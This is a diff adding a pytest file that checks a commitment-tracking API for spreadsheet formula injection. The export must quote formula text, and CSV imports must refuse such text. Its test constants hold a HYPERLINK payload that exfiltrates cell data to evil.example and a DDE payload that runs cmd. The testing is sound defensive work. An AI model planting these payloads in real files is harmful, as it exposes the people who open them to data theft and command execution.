@@ -1,0 +1,95 @@
+"""Hostile spreadsheets in and out of the commitment follow-up: text that a spreadsheet would
+run as a formula never comes back out live, and is refused on the way in."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from typing import Any
+
+from fastapi.testclient import TestClient
+from openpyxl import load_workbook
+
+from tests.dialogue.conftest import TIEN_LANG, FakeToday, event_types, held_session, ok, take_office
+
+URL = "/api/v1/commitments/progress-import"
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def _commitments(client: TestClient, items: list[tuple[str, str]]) -> list[str]:
+    head = take_office(client, TIEN_LANG, "party_secretary", "Nguyễn Văn An", "2020-10-01")
+    session_id = held_session(client, TIEN_LANG, [head], "2023-03-15")
+    return [
+        ok(client.post(f"/api/v1/sessions/{session_id}/commitments", json={
+            "text": text, "responsible_agency": agency, "due_on": "2023-09-30"}),
+           201)["commitment_id"]
+        for text, agency in items
+    ]
+
+
+def _upload(client: TestClient, name: str, content: bytes, **params: Any) -> Any:
+    return client.post(URL, params=params, files={"file": (name, content)})
+
+
+def test_the_template_writes_formula_text_as_quoted_strings_and_numbers_as_numbers(
+    client: TestClient, clock: FakeToday
+) -> None:
+    clock.set(date(2023, 6, 15))
+    ids = _commitments(client, [(HYPERLINK, "=1+2"), (DDE, "@SUM(1+1)"),
+                                ("Nạo vét kênh Đông", "-5")])
+    ok(client.post(f"/api/v1/commitments/{ids[2]}/progress",
+                   json={"progress_pct": 40, "updated_on": "2023-06-01"}))
+
+    xlsx = client.get(f"{URL}/template", params={"unit_code": TIEN_LANG})
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert (rows[ids[0]][1].value, rows[ids[0]][2].value) == ("'" + HYPERLINK, "'=1+2")
+    assert (rows[ids[1]][1].value, rows[ids[1]][2].value) == ("'" + DDE, "'@SUM(1+1)")
+    assert {rows[i][1].data_type for i in ids} == {"s"}
+    # A figure is a number cell; text that is a plain number is left as written.
+    assert (rows[ids[2]][5].data_type, rows[ids[2]][5].value) == ("n", 40)
+    assert (rows[ids[2]][2].data_type, rows[ids[2]][2].value) == ("s", "-5")
+
+    text = client.get(f"{URL}/template", params={"format": "csv"}).content.decode("utf-8-sig")
+    lines = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
+    assert lines[ids[0]][1:3] == ["'" + HYPERLINK, "'=1+2"]
+    assert lines[ids[1]][1:3] == ["'" + DDE, "'@SUM(1+1)"]
+    assert lines[ids[2]][2] == "-5" and lines[ids[2]][5] == "40"
+    assert not any(cell.startswith(("=", "+", "@")) for row in lines.values() for cell in row)
+
+    # The quoted template still comes back through the import: its text columns are read only.
+    filled = load_workbook(io.BytesIO(xlsx.content))
+    for row in filled.worksheets[0].iter_rows(min_row=2):
+        row[5].value = 50
+    buffer = io.BytesIO()
+    filled.save(buffer)
+    assert ok(_upload(client, "mau.xlsx", buffer.getvalue()))["accepted_rows"] == 3
+
+
+def test_an_imported_note_a_spreadsheet_would_run_is_refused_row_by_row(
+    client: TestClient, clock: FakeToday
+) -> None:
+    clock.set(date(2023, 6, 15))
+    ids = _commitments(client, [("Chi trả tiền bồi thường", "Ban Quản lý dự án huyện")] * 6)
+    notes = [HYPERLINK, DDE, "@SUM(1+1)", "=1+2", "\t=1+2", "\r+1+2"]
+    content = "\r\n".join(
+        ["Mã cam kết,Tiến độ (%),Ghi chú"]
+        + [f'{i},10,"{n.replace(chr(34), chr(34) * 2)}"' for i, n in zip(ids, notes, strict=True)]
+    ).encode("utf-8")
+    baseline = len(event_types(client))
+
+    refused = _upload(client, "tien-do.csv", content)
+    assert refused.status_code == 422
+    errors = refused.json()["error"]["details"]["errors"]
+    assert [(e["row"], e["column"], e["code"]) for e in errors] == [
+        (row, "Ghi chú", "FORMULA_TEXT") for row in range(2, 8)]
+    assert "công thức" in errors[0]["message"]
+    assert len(event_types(client)) == baseline
+
+    # A note that only looks like a figure, or a lone dash, is plain data.
+    plain = "Mã cam kết,Tiến độ (%),Ghi chú\r\n" + f"{ids[0]},10,-5\r\n{ids[1]},10,-\r\n"
+    assert ok(_upload(client, "tien-do.csv", plain.encode()))["accepted_rows"] == 2
